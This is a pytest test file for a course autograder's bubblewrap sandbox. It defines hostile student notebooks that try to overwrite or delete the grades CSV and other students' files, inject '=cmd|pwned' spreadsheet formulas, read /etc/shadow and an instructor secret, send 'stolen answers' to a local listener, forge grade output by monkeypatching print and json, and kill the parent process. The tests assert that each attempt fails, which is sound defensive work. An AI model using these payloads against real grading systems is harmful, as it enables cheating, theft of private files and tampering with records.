"""The grader as a sandbox: hostile notebooks cost only themselves, and nothing of a graded
notebook is alive afterwards.

One class of notebooks is graded once (the ``hostile`` fixture), with the paths
they attack known to them, as a well-informed attacker's would be: the CSV,
another student's feedback and notebook, a secret in the instructor's home, a
server on 127.0.0.1. Every test then looks at files' contents and hashes, the
server's log and the machine's process table.
"""

import csv
import os
import socket
import subprocess
import sys
import threading
import time

import pytest

from nncourse.grade import main

from .grading_helpers import (
    N_EXERCISES,
    digest,
    new_marker,
    processes_with,
    require_sandbox,
    solutions,
    solved,
    spawner,
    student,
    with_cells,
    write,
)

pytestmark = pytest.mark.usefixtures("sandbox_works")


@pytest.fixture(scope="module")
def sandbox_works():
    require_sandbox()


def memory_mb(field):
    """This process's ``VmRSS`` (now) or ``VmHWM`` (its peak since ``reset_peak_memory``), in MB."""
    for line in open("/proc/self/status"):
        if line.startswith(field + ":"):
            return int(line.split()[1]) / 1024
    raise LookupError(field)


def reset_peak_memory():
    with open("/proc/self/clear_refs", "w") as file:
        file.write("5")  # resets VmHWM to VmRSS (Linux 4.0 and later)


class Listener:
    """A TCP server on 127.0.0.1 that records every connection and every byte sent to it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received = []
        self.server.settimeout(0.2)
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.running:
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            connection.settimeout(2)
            try:
                self.received.append(connection.recv(1000) or b"(connected)")
            except OSError:
                self.received.append(b"(connected)")
            connection.close()

    def close(self):
        self.running = False
        self.thread.join()
        self.server.close()


def points(rows):
    return sum(float(row["points"]) for row in rows)


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    by_student = {}
    for row in rows:
        by_student.setdefault(row["student"], []).append(row)
    return by_student


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, sandbox_works):
    """Grade a class of hostile notebooks beside honest ones; return what the tests look at."""
    base = tmp_path_factory.mktemp("sandbox")
    root, out = base / "class", base / "out" / "grades.csv"
    home = base / "home"
    home.mkdir()
    secret = f"TOPSECRET-{os.urandom(6).hex()}"
    (home / "secret.txt").write_text(secret)
    listener = Listener()
    marker = {name: new_marker() for name in ("finishes", "crashes", "ignores_sigint")}
    honest_notebook = root / "honest" / "01-perceptron.ipynb"
    earlier_feedback = out.parent / "feedback" / "earlier.txt"
    good, stub = solved(), student()

    vandal = "\n".join(
        f"for attempt in ('w', 'a'):\n"
        f"    try:\n        open({str(path)!r}, attempt).write('=cmd|pwned')\n"
        "    except OSError:\n        pass\n"
        f"try:\n    __import__('os').remove({str(path)!r})\nexcept OSError:\n    pass"
        for path in (out, earlier_feedback, honest_notebook, root / "vandal" / "01-perceptron.ipynb")
    )
    snoop = (
        "found = []\n"
        f"for path in ({str(home / 'secret.txt')!r}, {str(honest_notebook)!r}, '/etc/shadow', "
        f"{str(out)!r}):\n"
        "    try:\n        found.append(open(path).read()[:40])\n    except OSError as error:\n"
        "        found.append(type(error).__name__)\n"
        f"found.append(','.join(sorted(__import__('os').listdir({str(home)!r})))"
        f" if __import__('os').path.isdir({str(home)!r}) else 'no home')\n"
        "xor_answer = '|'.join(found)\n"
    )
    network = (
        "import socket\nsent = 'nothing'\ntry:\n"
        f"    connection = socket.create_connection(('127.0.0.1', {listener.port}), timeout=3)\n"
        "    connection.sendall(b'stolen answers')\n    sent = 'sent'\n"
        "except OSError as error:\n    sent = type(error).__name__\n"
    )
    # a record that says "xor_answer is 'c'" where it says the answer is not set: json.dumps and
    # print rewrite it (the old grader printed its records with them), and sys.stdout.write too
    forger = (
        "import builtins, json, sys\n"
        "from ipykernel.iostream import OutStream\n"
        "real_dumps, real_print, real_write = json.dumps, builtins.print, OutStream.write\n"
        "def forged_dumps(value, *args, **kwargs):\n"
        "    if isinstance(value, dict) and 'is_ellipsis' in value:\n"
        "        value = {'value': 'c', 'is_ellipsis': False}\n"
        "    return real_dumps(value, *args, **kwargs)\n"
        "def forge(text):\n"
        '    return text.replace(\'"value": {"__unsupported__": "ellipsis"}, "is_ellipsis": true\',\n'
        '                        \'"value": "c", "is_ellipsis": false\')\n'
        "def forged_print(*values, **kwargs):\n"
        "    real_print(*[forge(str(value)) for value in values], **kwargs)\n"
        "json.dumps, builtins.print = forged_dumps, forged_print\n"
        "OutStream.write = lambda self, text: real_write(self, forge(text))\n"
    )
    # what forged the old grader's record: a worker's result line on fd 1, then the worker killed
    forged_line = (
        '{"rows": ['
        + ", ".join(
            f'{{"exercise": "{name}", "points": 1, "max_points": 1, "feedback": "passed"}}'
            for name in solutions()
        )
        + '], "problem": null}'
    )
    parent_killer = (
        f"import os, signal\nos.write(1, {forged_line!r}.encode() + b'\\n')\n"
        f"os.write(2, {forged_line!r}.encode() + b'\\n')\nos.kill(os.getppid(), signal.SIGKILL)"
    )
    submissions = {
        "honest": good,
        "neighbour": good,
        "vandal": with_cells(stub, vandal),
        "snoop": with_cells(stub, snoop, at=len(stub.cells)),
        "network": with_cells(stub, network),
        "forger": with_cells(stub, forger),
        "parent_killer": with_cells(stub, parent_killer),
        "finishes": with_cells(good, spawner(marker["finishes"], out)),
        "crashes": with_cells(good, spawner(marker["crashes"], out), "import os\nos._exit(1)"),
        "ignores_sigint": with_cells(
            good,
            spawner(marker["ignores_sigint"], out),
            "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
        ),
    }
    for name, notebook in submissions.items():
        write(notebook, root / name / "01-perceptron.ipynb")
    # a student graded in an earlier run: their rows and feedback must not change
    out.parent.mkdir(parents=True)
    earlier = [
        {
            "student": "earlier",
            "chapter": "01-perceptron",
            "exercise": name,
            "points": "1",
            "max_points": "1",
            "feedback": "passed",
        }
        for name in solutions()
    ]
    with open(out, "w", newline="") as file:
        writer = csv.DictWriter(file, list(earlier[0]))
        writer.writeheader()
        writer.writerows(earlier)
    earlier_feedback.parent.mkdir()
    earlier_feedback.write_text("Feedback for earlier\n\n01-perceptron: 4 / 4\n")
    before = {"honest": digest(honest_notebook), "earlier_feedback": digest(earlier_feedback)}
    old_home = os.environ.get("HOME")
    os.environ["HOME"] = str(home)  # the instructor's home, as the grader sees it
    try:
        started = time.perf_counter()
        code = main(
            [
                str(root),
                "--out",
                str(out),
                "--workers",
                "2",
                "--cell-timeout",
                "5",
                "--memory",
                "2048",
                "--timeout",
                "240",
            ]
        )
        seconds = time.perf_counter() - started
    finally:
        os.environ["HOME"] = old_home
        listener.close()
    assert code == 0
    csv_after_run = digest(out)
    return {
        "root": root,
        "out": out,
        "rows": read_csv(out),
        "before": before,
        "secret": secret,
        "listener": listener,
        "marker": marker,
        "csv_after_run": csv_after_run,
        "seconds": seconds,
        "honest_notebook": honest_notebook,
        "earlier_feedback": earlier_feedback,
        "earlier": earlier,
    }


def everything_written(hostile):
    """The CSV and every feedback file, as text."""
    texts = [hostile["out"].read_text(encoding="utf-8")]
    texts += [path.read_text(encoding="utf-8") for path in (hostile["out"].parent / "feedback").glob("*.txt")]
    return "\n".join(texts)


def test_honest_notebooks_graded_beside_hostile_ones_earn_every_point(hostile):
    for name in ("honest", "neighbour"):
        assert points(hostile["rows"][name]) == N_EXERCISES


def test_a_notebook_cannot_rewrite_the_csv_another_students_feedback_or_submission(hostile):
    assert digest(hostile["honest_notebook"]) == hostile["before"]["honest"]
    assert digest(hostile["earlier_feedback"]) == hostile["before"]["earlier_feedback"]
    assert (hostile["root"] / "vandal" / "01-perceptron.ipynb").exists()
    assert "pwned" not in everything_written(hostile)
    assert hostile["rows"]["earlier"] == hostile["earlier"]
    assert sorted(hostile["rows"]) == sorted(
        [
            "earlier",
            "honest",
            "neighbour",
            "vandal",
            "snoop",
            "network",
            "forger",
            "parent_killer",
            "finishes",
            "crashes",
            "ignores_sigint",
        ]
    )
    assert all(len(rows) == N_EXERCISES for rows in hostile["rows"].values())


def test_a_notebook_cannot_read_the_instructors_home_other_submissions_or_the_csv(hostile):
    feedback = {row["exercise"]: row["feedback"] for row in hostile["rows"]["snoop"]}["xor_reason"]
    # what the snoop found is in its own feedback: errors only, no secret, no other notebook, no CSV
    assert "FileNotFoundError|FileNotFoundError|FileNotFoundError|FileNotFoundError|no home" in feedback
    assert hostile["secret"] not in everything_written(hostile)


def test_a_notebook_cannot_reach_the_network_even_on_127_0_0_1(hostile):
    assert hostile["listener"].received == []


def test_a_notebook_that_patches_print_stdout_json_and_repr_forges_nothing(hostile):
    assert points(hostile["rows"]["forger"]) == 0


def test_a_notebook_that_writes_a_forged_result_and_kills_its_parent_costs_only_itself(hostile):
    # in the sandbox its parent is the PID namespace's first process, which the kill does not reach:
    # the notebook goes on, and its stubs earn what stubs earn
    rows = hostile["rows"]["parent_killer"]
    assert points(rows) == 0
    assert not any(row["feedback"] == "passed" for row in rows)


def test_a_notebook_that_prints_hundreds_of_megabytes_costs_only_itself(tmp_path):
    printer = "for _ in range(500):\n    print('x' * 2**20)"  # 500 MB
    write(with_cells(solved(), printer), tmp_path / "class" / "printer" / "01-perceptron.ipynb")
    write(solved(), tmp_path / "class" / "honest" / "01-perceptron.ipynb")
    reset_peak_memory()
    before = memory_mb("VmRSS")
    # a cell time limit long enough for 500 MB on a busy machine: printing is allowed, only costly
    assert (
        main(
            [
                str(tmp_path / "class"),
                "--out",
                str(tmp_path / "grades.csv"),
                "--workers",
                "2",
                "--cell-timeout",
                "120",
            ]
        )
        == 0
    )
    growth = memory_mb("VmHWM") - before
    rows = read_csv(tmp_path / "grades.csv")
    assert points(rows["printer"]) == N_EXERCISES and points(rows["honest"]) == N_EXERCISES
    # the 500 MB never reach the grader: its own memory grows by far less
    assert growth < 300, f"the grader grew by {growth:.0f} MB"


@pytest.mark.parametrize("student", ["finishes", "crashes", "ignores_sigint"])
def test_nothing_a_graded_notebook_started_is_alive_afterwards(hostile, student):
    assert processes_with(hostile["marker"][student]) == []


def test_a_daemon_left_behind_never_edits_the_csv(hostile):
    time.sleep(4)  # the daemons would have written 3 s after they started
    assert digest(hostile["out"]) == hostile["csv_after_run"]
    assert "pwned" not in hostile["out"].read_text(encoding="utf-8")


def test_how_each_ending_is_reported(hostile):
    rows = hostile["rows"]
    assert points(rows["finishes"]) == N_EXERCISES
    assert points(rows["crashes"]) == 0 and all("kernel died" in row["feedback"] for row in rows["crashes"])
    assert points(rows["ignores_sigint"]) == 0
    assert all("did not stop when interrupted" in row["feedback"] for row in rows["ignores_sigint"])


def test_a_notebook_that_runs_out_of_time_leaves_nothing_running(tmp_path):
    marker = new_marker()
    slow = with_cells(
        solved(),
        spawner(marker, tmp_path / "canary"),
        "import time\ntime.sleep(4)",
        "import time\ntime.sleep(4)",
        "import time\ntime.sleep(4)",
    )
    write(slow, tmp_path / "class" / "slow" / "01-perceptron.ipynb")
    assert (
        main(
            [
                str(tmp_path / "class"),
                "--out",
                str(tmp_path / "grades.csv"),
                "--workers",
                "1",
                "--timeout",
                "10",
                "--cell-timeout",
                "5",
            ]
        )
        == 0
    )
    rows = read_csv(tmp_path / "grades.csv")["slow"]
    assert points(rows) == 0 and all("did not finish within 10 s" in row["feedback"] for row in rows)
    assert processes_with(marker) == []
    time.sleep(4)
    assert not (tmp_path / "canary").exists()


def test_without_bwrap_the_grader_refuses_and_says_why(tmp_path):
    write(solved(), tmp_path / "class" / "ada" / "01-perceptron.ipynb")
    command = [
        sys.executable,
        "-m",
        "nncourse.grade",
        str(tmp_path / "class"),
        "--out",
        str(tmp_path / "g.csv"),
    ]
    result = subprocess.run(
        command,
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "PATH": str(tmp_path / "no-bwrap-here")},
    )
    assert result.returncode == 2
    assert "refusing to run student code without the sandbox" in result.stderr
    assert "bubblewrap" in result.stderr and "--no-sandbox" in result.stderr
    assert not (tmp_path / "g.csv").exists()


def test_no_sandbox_says_what_it_means_and_still_grades(tmp_path):
    write(solved(), tmp_path / "class" / "ada" / "01-perceptron.ipynb")
    command = [
        sys.executable,
        "-m",
        "nncourse.grade",
        str(tmp_path / "class"),
        "--out",
        str(tmp_path / "g.csv"),
        "--no-sandbox",
        "--workers",
        "1",
    ]
    result = subprocess.run(
        command,
        capture_output=True,
        text=True,
        timeout=300,
        env={**os.environ, "PATH": str(tmp_path / "no-bwrap-here")},
    )
    assert result.returncode == 0, result.stderr
    assert "runs as you, with your files and your network in reach" in result.stderr
    assert points(read_csv(tmp_path / "g.csv")["ada"]) == N_EXERCISES


def test_the_sandbox_cannot_be_built_over_a_folder_the_kernel_must_see():
    from nncourse.grading import sandbox

    shown = sandbox.python_paths()
    plan = sandbox.SandboxPlan(shown=shown, hidden=[shown[0] / "hidden-inside"])
    command = sandbox.bwrap_command(plan, sandbox.Limits(), ["true"], {})
    assert command[command.index(str(shown[0] / "hidden-inside")) - 1] == "--tmpfs"
